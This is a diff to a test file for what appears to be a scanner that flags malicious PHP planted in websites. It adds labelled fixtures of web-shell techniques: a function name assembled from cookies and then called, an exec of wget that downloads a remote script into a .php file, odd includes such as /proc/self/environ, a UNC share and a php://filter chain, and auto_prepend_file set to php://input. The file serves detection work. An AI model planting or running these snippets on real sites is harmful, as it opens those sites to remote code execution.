@@ -72,6 +72,28 @@ describe('what planted scripts do', () => {
       `$o = fopen(${POST}['p'], 'w'); stream_copy_to_stream(fopen('php://input', 'r'), $o);`,
       'php.request-to-file high',
     ],
+    [
+      'call a function that cookies name in pieces',
+      `$c = $_COOKIE; ($c && isset($c[0])) ? (($d = $c[0] . $c[1]) && $d($c[2])) : 0;`,
+      'php.request-chooses-call critical',
+    ],
+    [
+      'fetch a script by a command',
+      `exec('wget -O inert.php http://a.example.test/a.txt');`,
+      'php.attack-command high',
+    ],
+    ['include what a visitor wrote into a log of the kernel', `include '/proc/self/environ';`, 'php.odd-include high'],
+    ['include from a share of another machine', `include '\\\\\\\\192.0.2.1\\\\s\\\\a.php';`, 'php.odd-include high'],
+    [
+      'make code of nothing by filters',
+      `include 'php://filter/convert.iconv.UTF8.UTF7/resource=php://temp';`,
+      'php.odd-include high',
+    ],
+    [
+      'run the body of each request first',
+      `ini_set('auto_prepend_file', 'php://input');`,
+      'php.sets-prepended-file high',
+    ],
     ['make variables of the request', `extract(${POST}); $a($b);`, 'php.request-chooses-call critical'],
     [
       'store any upload',
@@ -147,6 +169,8 @@ describe('what honest scripts do', () => {
       'answer by a magic method',
       `class M { static function __callStatic($n, $a) { return self::find($n, $a); } } echo M::posts(${GET}['id']);`,
     ],
+    ['name a file that runs first', `ini_set('auto_prepend_file', '/srv/site/waf.php');`],
+    ['fetch a page by a command', `exec('wget -O /tmp/page.html http://a.example.test/');`],
     ['run their own archive', `include 'phar://' . __DIR__ . '/tool.phar/run.php'; include 'phar://tool.phar/a.php';`],
     ['assert a fact', 'assert($a instanceof B);'],
     [
